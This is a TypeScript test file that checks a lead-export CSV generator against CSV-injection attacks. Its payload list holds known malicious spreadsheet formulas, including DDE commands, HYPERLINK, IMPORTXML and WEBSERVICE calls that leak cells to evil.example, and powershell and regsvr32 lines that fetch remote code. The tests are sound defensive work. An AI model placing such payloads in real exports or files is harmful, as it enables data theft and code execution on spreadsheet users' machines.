/**
 * The CSV export against known CSV-injection payloads (OWASP's CSV Injection page and the
 * usual lists built on it): whatever a visitor types, no cell, and no piece of a cell between
 * separators, reaches a spreadsheet starting with a formula character, and no separator or
 * line break inside a value splits its cell.
 */

import { attributionKeys } from '@contract/attribution';
import { leadFieldPath, leadFields } from '@contract/lead-fields';
import { describe, expect, it } from 'vitest';
import { type CsvSeparator, leadsToCsv } from './csv';
import type { Lead } from './lead';

/** The CSV's columns, by their header. */
const columns = leadFields.filter((field) => field.csv).map(leadFieldPath);

const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "-2+3+cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: click here")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil/x.sct scrobj.dll'!''",
  '\t=1+1',
  '\r=1+1',
  '\t\r=1+1',
  "x;=cmd|' /C calc'!A0",
  "x,=cmd|' /C calc'!A0",
  'x; =1+1',
  'x,  +1+1',
  'a;b;@SUM(1)',
  'a,b,-1',
  '";=1+1;"',
  '",=1+1,"',
  'x";=1+1',
  'Linha 1\r\n=1+1',
  'Linha 1\n"=1+1"',
];

function leadWith(value: string): Lead {
  return {
    id: 'id-1',
    createdAt: new Date('2025-01-31T12:00:00Z'),
    firstName: value,
    lastName: value,
    email: value,
    phone: value,
    message: value,
    subject: value,
    language: 'pt',
    page: value,
    company: value,
    cnpj: value,
    legalBasis: value,
    privacyNoticeVersion: value,
    attribution: Object.fromEntries(
      attributionKeys.map((key) => [key, value]),
    ) as Lead['attribution'],
  };
}

async function csvOf(leads: Lead[], separator: CsvSeparator) {
  let text = '';
  for await (const chunk of leadsToCsv(leads, separator)) text += chunk;
  return text;
}

/** RFC 4180 as a spreadsheet reads it: rows of cells, quotes undone; and whether each was quoted. */
function parseCsv(text: string, separator: CsvSeparator) {
  const rows: { value: string; quoted: boolean }[][] = [];
  let row: { value: string; quoted: boolean }[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    const quoted = text[i] === '"';
    if (quoted) {
      i += 1;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (text[i] === '"') {
          i += 1;
          break;
        } else if (i >= text.length) {
          throw new Error('unterminated quote');
        } else {
          value += text[i];
          i += 1;
        }
      }
    } else {
      while (i < text.length && text[i] !== separator && text[i] !== '\r') {
        value += text[i];
        i += 1;
      }
    }
    row.push({ value, quoted });
    if (text[i] === separator) {
      i += 1;
    } else {
      expect(text.slice(i, i + 2), 'a cell ends at a separator or CRLF').toBe('\r\n');
      i += 2;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

const formulaCharacter = /^[=+\-@\t\r]/;

describe.each([
  [',', 'comma'],
  [';', 'semicolon'],
] as const)('the CSV export, %s-separated (%s)', (separator, _name) => {
  it('starts with a BOM and a quoted header of the lead fields', async () => {
    const text = await csvOf([], separator);
    expect(text).toBe(`\uFEFF${columns.map((column) => `"${column}"`).join(separator)}\r\n`);
  });

  it.each(payloads)(
    'keeps %j in its own, quoted cell that cannot start a formula',
    async (payload) => {
      const text = await csvOf([leadWith(payload)], separator);
      const [, row] = parseCsv(text.replace(/^\uFEFF/, ''), separator);
      expect(row).toHaveLength(columns.length);
      for (const cell of row ?? []) {
        expect(cell.quoted).toBe(true);
        // Nothing between separators starts a formula either, should a program split the cell.
        for (const piece of cell.value.split(/[,;]/)) {
          expect(piece.trimStart().replace(/^ +/, '')).not.toMatch(formulaCharacter);
          expect(piece.replace(/^ +/, '')).not.toMatch(formulaCharacter);
        }
      }
      // The visitor's text is all there: only apostrophes were added.
      const firstName = row?.[columns.indexOf('firstName')]?.value ?? '';
      expect(firstName.replace(/'(?=[=+\-@\t\r])/g, '')).toBe(
        payload.replace(/'(?=[=+\-@\t\r])/g, ''),
      );
    },
  );

  it.each([
    'Olá\n=HYPERLINK("https://evil.example","clique")',
    'linha\r\n+1+1',
    'linha\r-2+3',
    'a\n  @SUM(A1)',
    'a\n\t=1',
  ])('defuses a formula after a line break inside a cell (%j)', async (payload) => {
    const text = await csvOf([leadWith(payload)], separator);
    const [, row] = parseCsv(text.replace(/^\uFEFF/, ''), separator);
    for (const cell of row ?? []) {
      for (const line of cell.value.split(/\r\n|\r|\n/)) {
        expect(line.replace(/^ +/, '')).not.toMatch(formulaCharacter);
      }
    }
  });

  it('leaves ordinary text as it is, apart from the quotes', async () => {
    const text = await csvOf([leadWith('Zé da Silva, transportes; 20 caminhões')], separator);
    const [, row] = parseCsv(text.replace(/^\uFEFF/, ''), separator);
    expect(row?.[columns.indexOf('message')]?.value).toBe('Zé da Silva, transportes; 20 caminhões');
  });
});

describe('the CSV export of many leads', () => {
  it('comes in a few large chunks, each made of whole rows, that add up to every lead', async () => {
    const leads = Array.from({ length: 2000 }, (_, n) => ({
      ...leadWith(`Transportadora ${n}`),
      id: `id-${n}`,
    }));
    const chunks: string[] = [];
    for await (const chunk of leadsToCsv(leads)) chunks.push(chunk);
    // 2,000 rows of about 600 characters: a few dozen chunks, not 2,001 writes.
    expect(chunks.length).toBeGreaterThan(1);
    expect(chunks.length).toBeLessThan(200);
    for (const chunk of chunks) expect(chunk.endsWith('\r\n')).toBe(true);
    for (const chunk of chunks.slice(0, -1)) expect(chunk.length).toBeGreaterThanOrEqual(16 * 1024);
    const rows = parseCsv(chunks.join('').replace(/^\uFEFF/, ''), ',');
    expect(rows).toHaveLength(1 + leads.length);
    expect(rows.slice(1).map((row) => row[columns.indexOf('id')]?.value)).toEqual(
      leads.map((lead) => lead.id),
    );
  });
});
